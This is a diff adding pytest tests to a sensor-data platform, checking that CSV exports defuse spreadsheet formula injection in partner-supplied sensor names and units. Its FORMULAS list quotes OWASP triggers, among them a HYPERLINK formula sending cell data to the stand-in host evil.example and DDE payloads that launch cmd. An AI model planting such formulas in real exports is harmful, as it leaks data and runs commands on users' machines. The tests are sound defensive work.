@@ -14,9 +14,9 @@ from psycopg.pq import TransactionStatus
 
 from livinglab_platform.access import Principal
 from livinglab_platform.core.errors import InvalidInputError
-from livinglab_platform.data import exports, queries
+from livinglab_platform.data import cells, exports, queries
 from livinglab_platform.data.schemas import Format, Interval
-from livinglab_platform.registry.schemas import Role
+from livinglab_platform.registry.schemas import Role, SensorCreate
 from tests.api.readings import fill_rollups, insert_readings, trial_with_windows
 from tests.api.world import CLI, T0, World, add_device
 
@@ -507,3 +507,76 @@ def test_moments_outside_the_years_1_to_9999_in_utc_are_invalid_input(
         params=_params(device="dev-a", interval="1d", end="9999-12-31T23:59:59Z"),
     )
     assert r.status_code == 200, r.text
+
+
+# Text a partner controls, as a spreadsheet would run it: OWASP's formula triggers.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_are_never_formulas(client, world: World):
+    # The registry takes such text for a sensor's quantity and unit (a partner registers them).
+    for text in FORMULAS:
+        SensorCreate(key="x", quantity=text, unit=text[:30])
+    with psycopg.connect(world.dsn) as conn:
+        add_device(conn, "dev-a", "startup-a")
+        for i, text in enumerate(FORMULAS):
+            sensor = conn.execute(
+                "INSERT INTO sensors (device_id, key, quantity, unit) VALUES ('dev-a', %s, %s, %s)"
+                " RETURNING id",
+                (f"s{i}", text, text[:30]),
+            ).fetchone()[0]
+            conn.execute(
+                "INSERT INTO readings (time, sensor_id, value) VALUES (%s, %s, -5.25)",
+                (T0 + timedelta(minutes=i), sensor),
+            )
+        fill_rollups(conn)
+        conn.commit()
+    operator = world.headers("operator")
+    for interval in ("raw", "1h"):
+        r = client.get(
+            "/api/v1/export",
+            headers=operator,
+            params=_params(device="dev-a", interval=interval, format="csv"),
+        )
+        assert r.status_code == 200, r.text
+        rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
+        assert len(rows) == len(FORMULAS)
+        assert sorted(row["quantity"] for row in rows) == sorted(
+            "'" + text for text in FORMULAS
+        )
+        for row in rows:
+            assert row["unit"] == "'" + row["quantity"][1:31]
+            # Numbers stay numbers: a negative reading is not a formula.
+            assert float(row["value" if interval == "raw" else "mean"]) == -5.25
+            assert row["value" if interval == "raw" else "min"] == "-5.25"
+    # Parquet keeps the text exactly as registered.
+    r = client.get(
+        "/api/v1/export",
+        headers=operator,
+        params=_params(device="dev-a", interval="raw", format="parquet"),
+    )
+    assert sorted(_parquet(r.content).column("quantity").to_pylist()) == sorted(
+        FORMULAS
+    )
+
+
+def test_arrow_and_python_make_the_same_cells_safe():
+    texts = [*FORMULAS, "", "'", "pm2_5", "a=b", " =1", "\n=1", "-", "ug/m3"]
+    table = cells.text_columns(
+        pa.table({"text": pa.array(texts), "value": pa.array([-1.5] * len(texts))})
+    )
+    assert table.column("text").to_pylist() == [cells.text_cell(t) for t in texts]
+    assert table.column("value").to_pylist() == [-1.5] * len(texts)
+    assert [cells.text_cell(t) for t in ("", "pm2_5", " =1", "-")] == [
+        "",
+        "pm2_5",
+        " =1",
+        "'-",
+    ]
